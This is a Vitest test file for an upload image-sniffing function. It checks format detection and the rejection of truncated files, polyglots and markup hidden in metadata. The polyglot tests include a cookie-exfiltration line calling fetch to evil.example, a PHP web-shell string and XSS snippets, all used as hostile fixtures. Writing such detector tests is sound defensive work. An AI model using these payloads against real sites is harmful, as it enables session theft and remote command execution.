import { describe, expect, it } from 'vitest'
import {
  gif,
  gifJsPolyglot,
  html,
  jpeg,
  motionPhotoTrailer,
  pdf,
  png,
  svg,
  webp,
  withJpegComment,
  withPngText,
  zip,
} from '../../../tests/setup/upload-fixtures'
import { formatOf, jpegLayout, pngLayout, sniffImage, webpLayout } from './image-bytes.server'

const reason = (buf: Buffer) => {
  const r = sniffImage(buf)
  return r.ok ? r.format : r.reason
}

describe('sniffImage', () => {
  it('knows JPEG, PNG and WebP from their bytes, and finds where they end', async () => {
    const [j, p, w] = await Promise.all([jpeg(), png(), webp()])
    expect(sniffImage(j)).toEqual({ ok: true, format: 'jpeg', end: j.length })
    expect(sniffImage(p)).toEqual({ ok: true, format: 'png', end: p.length })
    expect(sniffImage(w)).toEqual({ ok: true, format: 'webp', end: w.length })
  })

  it('refuses every other format, whatever the file is called', async () => {
    // The name and Content-Type never reach this check: only the bytes do (an SVG named photo.jpg is an SVG).
    expect(reason(svg)).toBe('not_image')
    expect(reason(html)).toBe('not_image')
    expect(reason(pdf)).toBe('not_image')
    expect(reason(zip())).toBe('not_image')
    expect(reason(await gif())).toBe('not_image')
    expect(reason(gifJsPolyglot())).toBe('not_image')
    expect(reason(Buffer.from('hello, this is not a picture'))).toBe('not_image')
    expect(formatOf(Buffer.from([0xff, 0xd8]))).toBeNull()
  })

  it('refuses an empty file', () => {
    expect(reason(Buffer.alloc(0))).toBe('empty')
  })

  it('calls a file cut short, or with a broken structure, damaged', async () => {
    const [j, p, w] = await Promise.all([jpeg(), png(), webp()])
    for (const b of [j, p, w]) {
      expect(reason(b.subarray(0, Math.floor(b.length / 2)))).toBe('damaged')
      expect(reason(b.subarray(0, b.length - 3))).toBe('damaged')
    }
    expect(jpegLayout(j.subarray(0, 200))).toBeNull()
    expect(pngLayout(p.subarray(0, 40))).toBeNull()
    expect(webpLayout(w.subarray(0, 16))).toBeNull()
    // A PNG whose first chunk is not IHDR.
    expect(reason(Buffer.concat([p.subarray(0, 12), Buffer.from('JUNK'), p.subarray(16)]))).toBe('damaged')
  })

  it('refuses polyglots: another file or a script after the image', async () => {
    const j = await jpeg()
    expect(reason(Buffer.concat([j, zip()]))).toBe('hidden_data')
    expect(reason(Buffer.concat([j, html]))).toBe('hidden_data')
    expect(reason(Buffer.concat([j, pdf]))).toBe('hidden_data')
    expect(reason(Buffer.concat([j, Buffer.from('alert(document.cookie); fetch("//evil.example/" + document.cookie)')]))).toBe('hidden_data')
    expect(reason(Buffer.concat([await png(), Buffer.from('<?php system($_GET["c"]); ?>')]))).toBe('hidden_data')
    expect(reason(Buffer.concat([await webp(), await gif()]))).toBe('hidden_data')
    // A ZIP appended after some binary junk is still found by its end record.
    expect(reason(Buffer.concat([j, Buffer.from([1, 2, 3, 4, 5, 6, 7, 8, 9]), zip()]))).toBe('hidden_data')
  })

  it('refuses markup hidden in metadata', async () => {
    expect(reason(withJpegComment(await jpeg(), '<script>alert(1)</script>'))).toBe('hidden_data')
    expect(reason(withPngText(await png(), 'Comment', '<svg onload=alert(1)>'))).toBe('hidden_data')
    // Ordinary metadata passes.
    expect(reason(withJpegComment(await jpeg(), 'Taken on holiday, 2026'))).toBe('jpeg')
    expect(reason(withPngText(await png(), 'Software', 'Some Editor 1.2'))).toBe('png')
  })

  it('lets a camera trailer and zero padding through (re-encoding drops them)', async () => {
    const j = await jpeg()
    expect(reason(Buffer.concat([j, motionPhotoTrailer()]))).toBe('jpeg')
    expect(reason(Buffer.concat([j, Buffer.alloc(100)]))).toBe('jpeg')
  })
})
